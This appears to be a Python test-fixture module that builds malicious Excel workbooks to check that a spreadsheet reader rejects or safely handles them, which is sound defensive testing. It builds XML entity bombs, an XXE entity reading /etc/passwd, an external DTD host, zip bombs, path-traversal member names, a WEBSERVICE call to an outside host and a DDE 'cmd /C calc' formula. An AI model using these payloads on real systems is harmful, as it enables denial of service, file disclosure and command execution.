"""Workbooks made to harm, each a form without fault with one attack put into it."""

import io
import random
import re
import struct
import zipfile
import zlib

import xlwt

from specimens import ROOT

FORM = ROOT / "workbooks/sichuan/bazhou/project-selfeval/2023-pass-a.xlsx"
SCORECARD = ROOT / "workbooks/sichuan/yanjiang/project/2022-seed-waishi.xlsx"
NATIONAL = ROOT / "workbooks/national/project-selfeval/2020-pass-a.xlsx"
FAULTY = ROOT / "workbooks/sichuan/bazhou/project-selfeval/2023-seed-dianlu.xlsx"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET, STRINGS, STYLES, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
TIES = "xl/_rels/workbook.xml.rels"
FIGURES = ("1-", "（1分）", "1%", "1/", "1年", "≥1且", "1人次/天", "10万元", "每低于1个百分点扣1分，", "一年", "万")
"""What makes a reader of figures look ahead, back, or into itself."""
TERMS = ("×100%", "（1+", "-", "÷2", "三", "每项1分")
LAUGHS = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))


def parts(form=FORM):
    with zipfile.ZipFile(form) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(members, level=6):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def changed(name, old, new, count=1):
    """The form with a piece of one part replaced."""
    given = parts()
    assert old.encode() in given[name], (name, old)
    given[name] = given[name].replace(old.encode(), new if isinstance(new, bytes) else new.encode(), count)
    return zipped(given)


def in_rows(rows):
    """More rows below the form."""
    return changed(SHEET, "</sheetData>", rows + "</sheetData>")


def behind_cells(tail):
    """More behind the cells, where merged areas, validations and so on stand."""
    return changed(SHEET, "</sheetData>", "</sheetData>" + tail)


def in_merges(areas):
    return changed(SHEET, "</mergeCells>", "".join(f'<mergeCell ref="{area}"/>' for area in areas) + "</mergeCells>")


def declared(prologue, name=STRINGS, piece=""):
    """A part with a DOCTYPE before its root element, and a piece of text that makes use of it."""
    given = parts()
    head, mark, rest = given[name].partition(b"?>\n")
    text = head + mark + prologue.encode() + rest
    given[name] = text.replace(b"<t>", b"<t>" + piece.encode(), 1) if piece else text
    return zipped(given)


def lying(name, size):
    """The directory states another size for a member than it has."""
    data = bytearray(zipped(parts()))
    at = data.find(b"PK\1\2")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + length]) == name.encode():
            struct.pack_into("<I", data, at + 24, size)
        at = data.find(b"PK\1\2", at + 4)
    return bytes(data)


def bomb(mebibytes):
    """A part that inflates to very much; its directory entry is honest."""
    given = parts()
    given[SHEET] = given[SHEET].replace(b"<sheetData>", b"<sheetData>" + b" " * (mebibytes << 20), 1)
    return zipped(given, level=9)


def nested():
    """Members that share their compressed bytes: a bomb without a large file."""
    body = zlib.compress(b"0" * (8 << 20), 9)[2:-4]
    name = b"xl/media/a.bin"
    entry = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(body), 8 << 20, len(name), 0)
    local = b"PK\3\4" + entry + name + body
    directory = b"".join(
        b"PK\1\2" + struct.pack("<H", 20) + entry + struct.pack("<HHHII", 0, 0, 0, 0, 0) + b"xl/media/%05d" % number
        for number in range(200)
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 200, 200, len(directory), len(local), 0)
    return local + directory + end


def climbing():
    given = parts()
    given["../../../../../tmp/pwned.xlsx"] = b"x"
    given["C:\\Windows\\pwned.dll"] = b"x"
    given["/etc/pwned"] = b"x"
    return zipped(given)


def linked():
    """Formulas and links that lead to files and hosts outside."""
    rows = (
        '<row r="90"><c r="A90" t="str"><f>WEBSERVICE("http://192.0.2.1/x")</f><v>a</v></c>'
        "<c r=\"B90\"><f>'file:///etc/[passwd]Sheet1'!A1</f><v>1</v></c>"
        '<c r="C90" t="str"><f>cmd|\'/C calc\'!A0</f><v>b</v></c></row>'
    )
    return in_rows(rows)


def deep(count):
    return in_rows(f'<row r="90"><c r="A90"><f>{"(" * count}1{")" * count}</f><v>1</v></c></row>')


def styled_cells(count):
    """So many empty cells with a format, as copying whole columns leaves them."""
    rows = (
        f'<row r="{row}">' + "".join(f'<c r="{letter}{row}" s="1"/>' for letter in "ABCDEFGHIJ") + "</row>"
        for row in range(100, 100 + count // 10)
    )
    return in_rows("".join(rows))


def numbered_cells(count):
    rows = (
        f'<row r="{row}">' + "".join(f'<c r="{letter}{row}"><v>{row}.5</v></c>' for letter in "ABCDEFGHIJ") + "</row>"
        for row in range(100, 100 + count // 10)
    )
    return in_rows("".join(rows))


def texts(count):
    """So many cells, each with a text of its own that looks like a figure with a unit."""
    rows = (
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>≥{row}.5万元（第{row}项）</t></is></c></row>'
        for row in range(100, 100 + count)
    )
    return in_rows("".join(rows))


def strings(count):
    given = parts()
    more = "".join(f"<si><t>字符串{number}</t></si>" for number in range(count))
    given[STRINGS] = given[STRINGS].replace(b"</sst>", more.encode() + b"</sst>")
    return zipped(given)


def same_header(count):
    """The header row of the form over and over: a table that starts again in every row."""
    given = parts()
    text = given[SHEET].decode()
    rows = text[text.index("<row ") : text.index("</sheetData>")].split("</row>")
    copies = []
    for number in range(count):
        one = rows[number % (len(rows) - 1)]
        row = 100 + number
        head, _, cells = one.partition(">")
        old = head.split('r="')[1].split('"')[0]
        cells = cells.replace(f'{old}"', f'{row}"')
        copies.append(f'<row r="{row}">{cells}</row>')
    given[SHEET] = text.replace("</sheetData>", "".join(copies) + "</sheetData>").encode()
    return zipped(given)


def long_text(text, cell="A90"):
    return in_rows(f'<row r="90"><c r="{cell}" t="inlineStr"><is><t>{text}</t></is></c></row>')


def sheets(count):
    """The same form on very many sheets."""
    given = parts()
    listed = tied = ""
    for number in range(2, count + 2):
        given[f"xl/worksheets/extra{number}.xml"] = given[SHEET]
        listed += f'<sheet name="表{number}" sheetId="{number + 50}" r:id="rIdX{number}"/>'
        tied += (
            f'<Relationship Id="rIdX{number}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships'
        )
        tied += f'/worksheet" Target="worksheets/extra{number}.xml"/>'
    given[BOOK] = given[BOOK].replace(b"</sheets>", listed.encode() + b"</sheets>")
    given[TIES] = given[TIES].replace(b"</Relationships>", tied.encode() + b"</Relationships>")
    return zipped(given, level=1)


def flipped(seed, times=20):
    chance = random.Random(seed)  # noqa: S311 - damage that can be repeated
    data = bytearray(FORM.read_bytes())
    for _ in range(times):
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
    return bytes(data)


def noise(head=b""):
    return head + random.Random(1).randbytes(100_000)  # noqa: S311 - noise that can be repeated


def columns(count):
    return changed(SHEET, "</cols>", '<col min="1" max="16384" hidden="1"/>' * count + "</cols>")


def noted(comments, boxes, level=6):
    """A form with findings whose notes or their boxes are hostile: they are read only where it is marked."""
    given = parts(FAULTY)
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    given["xl/comments1.xml"], given["xl/drawings/v.vml"] = comments.encode(), boxes.encode()
    given["xl/worksheets/_rels/sheet1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{office}/comments" Target="../comments1.xml"/>'
        f'<Relationship Id="rId2" Type="{office}/vmlDrawing" Target="../drawings/v.vml"/></Relationships>'
    ).encode()
    sheet = given[SHEET].decode()
    head, mark, tail = sheet.partition("</worksheet>")
    given[SHEET] = f'{head}<legacyDrawing xmlns:r="{office}" r:id="rId2"/>{mark}{tail}'.encode()
    return zipped(given, level)


def notes(count):
    listed = "".join(f'<comment ref="A{row}" authorId="0"><text><t>x</t></text></comment>' for row in range(1, count))
    return (
        f'<comments xmlns="{MAIN}"><authors><author>a</author></authors><commentList>{listed}</commentList></comments>'
    )


def boxes(count):
    shape = '<v:shape id="_x0000_s{0}"><x:ClientData><x:Anchor>1,2,3,4,5,6,7,8</x:Anchor><x:Row>{0}</x:Row>'
    shape += "</x:ClientData></v:shape>"
    return "<xml>" + "".join(shape.format(number) for number in range(count)) + "</xml>"


def crowded_styles(count):
    given = parts(FAULTY)
    given[STYLES] = given[STYLES].replace(
        b"</cellXfs>", b'<xf numFmtId="0" fontId="0" fillId="0"/>' * count + b"</cellXfs>"
    )
    return zipped(given)


def links(count):
    given = parts(FAULTY)
    listed = "".join(f'<hyperlink ref="Z{row}" location="A1"/>' for row in range(1, count))
    sheet = given[SHEET].decode()
    at = sheet.index("<pageMargins") if "<pageMargins" in sheet else sheet.index("</worksheet>")
    given[SHEET] = f"{sheet[:at]}<hyperlinks>{listed}</hyperlinks>{sheet[at:]}".encode()
    return zipped(given)


def binary(cells, sheets=1):
    """An .xls with one text in each of these cells of each sheet."""
    book = xlwt.Workbook()
    for number in range(sheets):
        sheet = book.add_sheet(f"表{number}")
        for row, column in cells:
            sheet.write(row, column, "预算")
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def binary_lie():
    """An .xls whose sheet claims two thousand million rows: the reader would ask for the memory at once."""
    data = bytearray(binary([(0, 0)]))
    at = data.index(b"\x00\x02\x0e\x00")
    data[at + 8 : at + 12] = (0x7FFFFFFF).to_bytes(4, "little")
    return bytes(data)


def overfilled(form, holding, text):
    """A form in which every text that holds one of these letters is another one, and no two are the same."""
    given = parts(form)
    numbers = iter(range(1_000, 10_000))

    def other(found):
        if holding.isdisjoint(found[1].decode()):
            return found[0]
        return f"<t>{text[:-4]}{next(numbers)}</t>".encode()

    given[STRINGS] = re.sub(rb"<t>([^<]*)</t>", other, given[STRINGS])
    return zipped(given)


def endless_figures(piece):
    return overfilled(NATIONAL, set("0123456789"), (piece * 32_767)[:32_767])


def endless_criteria(piece):
    return overfilled(SCORECARD, {"扣", "得"}, f"资金到位率=实际到位资金{piece * 3_000}"[:2_900])


def one_string(length, cells):
    """One long text that very many cells share."""
    given = parts()
    index = given[STRINGS].count(b"<si>")
    given[STRINGS] = given[STRINGS].replace(b"</sst>", f"<si><t>{'文' * length}</t></si></sst>".encode())
    rows = "".join(f'<row r="{row}"><c r="D{row}" t="s"><v>{index}</v></c></row>' for row in range(100, 100 + cells))
    given[SHEET] = given[SHEET].replace(b"</sheetData>", rows.encode() + b"</sheetData>")
    return zipped(given)


def stuffed(name, mebibytes, head=""):
    """So many mebibytes of what no reader asks for in one part, stored so that it counts as no bomb."""
    given = parts()
    end = given[name].rindex(b"</")
    more = b"<extLst><ext>" + head.encode() + b"a" * (mebibytes << 20) + b"</ext></extLst>"
    given[name] = given[name][:end] + more + given[name][end:]
    return zipped(given, level=0)


def several_stuffed(mebibytes):
    """Three parts, each of them not too large."""
    given = parts()
    for name in (SHEET, STYLES, BOOK):
        with zipfile.ZipFile(io.BytesIO(stuffed(name, mebibytes))) as archive:
            given[name] = archive.read(name)
    return zipped(given, level=0)


def binary_string(cells):
    """An .xls with one long text that very many cells share: its reader copies it into each."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("表")
    text = "文" * 32_000
    for row in range(cells):
        sheet.write(row, 0, text)
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def called(name):
    return changed(BOOK, 'name="部门预算项目支出绩效自评表"', f'name="{name}"')


def numbered(text):
    return in_rows(f'<row r="90"><c r="A90"><v>{text}</v></c></row>')


ATTACKS = {
    "the form itself": (FORM.read_bytes, "read"),
    "billion laughs in the strings": (
        lambda: declared(f'<!DOCTYPE x [<!ENTITY a0 "哈">{LAUGHS}]>', piece="&a9;"),
        "refused",
    ),
    "billion laughs in the workbook": (lambda: declared(f'<!DOCTYPE x [<!ENTITY a0 "哈">{LAUGHS}]>', BOOK), "refused"),
    "quadratic entities": (
        lambda: declared(f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>', piece="&a;" * 20_000),
        "refused",
    ),
    "a foreign file as entity": (
        lambda: declared('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', piece="&e;"),
        "refused",
    ),
    "a foreign host as DTD": (lambda: declared('<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">', STYLES), "refused"),
    "64 MiB of blanks": (lambda: bomb(64), "refused"),
    "a member that states too little": (lambda: lying(SHEET, 100), "refused"),
    "a member that states too much": (lambda: lying(SHEET, 200 << 20), "refused"),
    "200 members on the same bytes": (nested, "refused"),
    "5,001 members": (lambda: zipped(parts() | {f"x/{n}": b"" for n in range(5_001)}), "refused"),
    "names that climb out": (climbing, "read"),
    "formulas that reach out": (linked, "any"),
    "5,000 parentheses": (lambda: deep(5_000), "refused"),
    "60 parentheses": (lambda: deep(60), "any"),
    "a formula over the whole sheet": (
        lambda: in_rows('<row r="90"><c r="A90"><f>SUMPRODUCT(--(A1:XFD1048576&lt;&gt;""))</f><v>1</v></c></row>'),
        "any",
    ),
    "one merge over the sheet": (lambda: in_merges(["A90:XFD1048576"]), "refused"),
    "20,000 merges": (lambda: in_merges(f"A{row}:B{row}" for row in range(100, 20_080)), "any"),
    "100,000 merges": (lambda: in_merges(f"A{row}:B{row}" for row in range(100, 100_100)), "refused"),
    "merges of whole rows": (lambda: in_merges(f"A{row}:XFD{row}" for row in range(100, 340)), "any"),
    "a cell in the last corner": (lambda: in_rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "any"),
    "a text in the last corner": (
        lambda: in_rows('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>一级指标</t></is></c></row>'),
        "any",
    ),
    "a cell in every corner": (
        lambda: in_rows(
            '<row r="500000"><c r="ZZ500000"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v></c>'
            '<c r="XFD1048576"><v>2</v></c></row>'
        ),
        "any",
    ),
    "a wrong dimension": (lambda: changed(SHEET, "<dimension ref=", '<dimension ref="A1:XFD1048576" x='), "read"),
    "a million shared strings": (lambda: strings(1_000_000), "refused"),
    "400,000 shared strings": (lambda: strings(400_000), "any"),
    "100,000 validations": (
        lambda: behind_cells(
            '<dataValidations count="100000">' + '<dataValidation type="list" sqref="A1:A9"><formula1>"是,否"'
            "</formula1></dataValidation>" * 100_000 + "</dataValidations>"
        ),
        "read",
    ),
    "validations of 100,000 ranges": (
        lambda: behind_cells(f'<dataValidations><dataValidation sqref="{"A1 " * 100_000}"/></dataValidations>'),
        "read",
    ),
    "100,000 conditional formats": (
        lambda: behind_cells(
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>TRUE</formula>'
            "</cfRule></conditionalFormatting>" * 100_000
        ),
        "any",
    ),
    "1,000 spans of hidden columns": (lambda: columns(1_000), "any"),
    "100,000 elements in one another": (lambda: in_rows("<a>" * 100_000 + "</a>" * 100_000), "any"),
    "a million empty rows": (lambda: in_rows("<row/>" * 1_000_000), "any"),
    "200,000 empty cells with formats": (lambda: styled_cells(200_000), "any"),
    "1,000,000 empty cells with formats": (lambda: styled_cells(1_000_000), "any"),
    "200,000 numbers": (lambda: numbered_cells(200_000), "any"),
    "1,000,000 numbers": (lambda: numbered_cells(1_000_000), "any"),
    "20,000 texts": (lambda: texts(20_000), "any"),
    "100,000 texts": (lambda: texts(100_000), "any"),
    "2,000 rows of the form again": (lambda: same_header(2_000), "any"),
    "10,000 rows of the form again": (lambda: same_header(10_000), "any"),
    "20,000 rows of the form again": (lambda: same_header(20_000), "any"),
    "50 sheets of the form": (lambda: sheets(50), "any"),
    "300 sheets of the form": (lambda: sheets(300), "read"),
    "400 sheets of the form": (lambda: sheets(400), "any"),
    "1,001 sheets": (lambda: sheets(1_001), "refused"),
    "a text of a million digits": (lambda: long_text("9" * 1_000_000, "D6"), "any"),
    "a text of a million brackets": (lambda: long_text("（" * 1_000_000), "any"),
    "a text of a million spaces": (lambda: long_text("预算" + " " * 1_000_000 + "数"), "any"),
    "a number of a million places": (
        lambda: in_rows(f'<row r="90"><c r="A90"><v>{"9" * 1_000_000}</v></c></row>'),
        "refused",
    ),
    "1E999999999": (lambda: in_rows('<row r="90"><c r="A90"><v>1E999999999</v></c></row>'), "refused"),
    **{f"figures without end: {piece}": (lambda piece=piece: endless_figures(piece), "answered") for piece in FIGURES},
    **{f"criteria without end: {piece}": (lambda piece=piece: endless_criteria(piece), "answered") for piece in TERMS},
    "a text of 32,768 characters": (lambda: changed(STRINGS, "养护行道树", "树" * 32_768), "refused"),
    "a text of 32,768 characters in its cell": (lambda: long_text("树" * 32_768), "refused"),
    "a long text in 100 cells": (lambda: one_string(32_000, 100), "any"),
    "a long text in 10,000 cells": (lambda: one_string(32_000, 10_000), "refused"),
    "a sheet of 17 MiB": (lambda: stuffed(SHEET, 17), "refused"),
    "styles of 17 MiB": (lambda: stuffed(STYLES, 17), "refused"),
    "a sheet of 15 MiB": (lambda: stuffed(SHEET, 15), "read"),
    "a sheet of 9 MiB and an emoji": (lambda: stuffed(SHEET, 9, "😀"), "refused"),
    "a sheet of 7 MiB and an emoji": (lambda: stuffed(SHEET, 7, "😀"), "read"),
    "three parts of 12 MiB": (lambda: several_stuffed(12), "refused"),
    "a sheet with an endless name": (lambda: called("表" * 1_000_000), "refused"),
    "a number with a low line": (lambda: numbered("1_000"), "refused"),
    "a number of full width": (lambda: numbered("１２"), "refused"),
    "a number in Arabic digits": (lambda: numbered("٣"), "refused"),
    "an .xls with a long text in 10,000 cells": (lambda: binary_string(10_000), "refused"),
    "a second body of cells": (lambda: behind_cells("<sheetData/>"), "refused"),
    "a part that is missing": (lambda: zipped({k: v for k, v in parts().items() if k != STRINGS}), "refused"),
    "notes with a DOCTYPE": (lambda: noted("<!DOCTYPE x>" + notes(2), "<xml></xml>"), "refused"),
    "notes without end": (lambda: noted(notes(9)[:-30], "<xml></xml>"), "refused"),
    "notes of 17 MiB": (lambda: noted(notes(9) + " " * (17 << 20), "<xml></xml>", level=0), "refused"),
    "boxes of notes of 17 MiB": (lambda: noted(notes(9), "<xml></xml>" + " " * (17 << 20), level=0), "refused"),
    "50,000 notes": (lambda: noted(notes(50_000), "<xml></xml>"), "marked"),
    "20,000 boxes of notes": (lambda: noted(notes(2), boxes(20_000)), "marked"),
    "300,000 anchors beside a note": (
        lambda: noted(notes(2).replace("A1", "H17"), f"<xml>{'<x:Anchor>1</x:Anchor>' * 300_000}</xml>"),
        "marked",
    ),
    "60,000 formats": (lambda: crowded_styles(60_000), "marked"),
    "50,000 links": (lambda: links(50_000), "marked"),
    "an .xls with far corners": (lambda: binary([(0, 0), (65_535, 255)]), "refused"),
    "an .xls with many far corners": (lambda: binary([(0, 0), (7_000, 255)], 20), "refused"),
    "an .xls that claims too many rows": (binary_lie, "refused"),
    "an .xls of 100,000 cells": (
        lambda: binary([(row, column) for row in range(5_000) for column in range(20)]),
        "refused",
    ),
    "an empty file": (lambda: b"", "refused"),
    "only the signature": (lambda: b"PK\3\4", "refused"),
    "noise": (noise, "refused"),
    "noise in a compound file": (
        lambda: noise(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        "refused",
    ),
}
"""By name: how the file is built, and what must come of it.

It is ``read`` like the form, ``marked``, ``refused``, read like the form or refused (``any``), or, being another form,
``answered`` with whatever is found in it.
"""
